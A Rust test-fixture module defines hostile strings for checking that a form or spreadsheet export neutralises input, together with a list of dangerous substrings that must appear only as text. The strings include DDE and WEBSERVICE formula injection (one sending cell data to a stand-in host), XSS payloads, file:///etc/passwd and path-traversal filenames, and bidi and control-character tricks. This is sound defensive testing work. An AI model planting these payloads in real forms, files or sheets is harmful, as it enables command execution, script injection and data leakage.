//! What somebody may type, paste or mean harm with.

/// Each stands in every place of a form of its own.
pub(super) const TEXTS: [&str; 36] = [
    "=HYPERLINK(\"http://x\",\"y\")",
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "{=SUM(A1)}",
    "'=1+1",
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "<!--{{data}}{{nonce}}-->",
    "]]>",
    "&amp;&lt;b&gt;&#x41;",
    "http://evil.example/",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "internal:'S'!A1",
    "\\\\evil.example\\share\\x",
    "_x000D_ _x0041_ _x005F_x0041_",
    "甲\u{0}\u{1}\u{7}\u{8}\u{b}\u{c}\u{e}\u{1f}\u{7f}\u{85}乙",
    "甲\u{1b}[31m\u{1b}]0;x\u{7}乙",
    "甲\u{FFFE}\u{FFFF}乙",
    "甲\u{202E}fdp.\u{2066}\u{200F}乙",
    "甲\u{200B}\u{FEFF}\u{200D}乙",
    "😀👨‍👩‍👧\u{1F1E8}\u{1F1F3}",
    "{district} {project_name} {{title}} %s %n ${x}",
    "&P&N&\"Arial\"&99",
    "a\u{2028}b\u{2029}c\u{0301}\u{0301}\u{0301}",
];

/// Names of files that Unix takes; each is a file's whole name before its extension.
pub(super) const FILES: [&str; 9] = [
    "=cmd|' /C calc'!A0",
    "<img src=x onerror=alert(1)>",
    "]]>&amp;_x0041_",
    "javascript:alert(1)",
    "甲\u{202E}xslx.exe",
    "甲\u{1b}[31m\n\t乙",
    "..%2f..%2fetc%2fpasswd",
    "con",
    "#'!A1 {{data}}",
];

/// The office that all of them come from.
pub(super) const OFFICE: &str = "=1+1&<b>\"'!街道_x0041_";

/// What must be nowhere but in text: a part of each that harms.
pub(super) const HARMFUL: [&str; 12] = [
    "HYPERLINK(",
    "cmd|",
    "WEBSERVICE",
    "alert(",
    "onerror",
    "onload",
    "evil.example",
    "http:",
    "javascript:",
    "etc/passwd",
    "etc%2fpasswd",
    "calc",
];
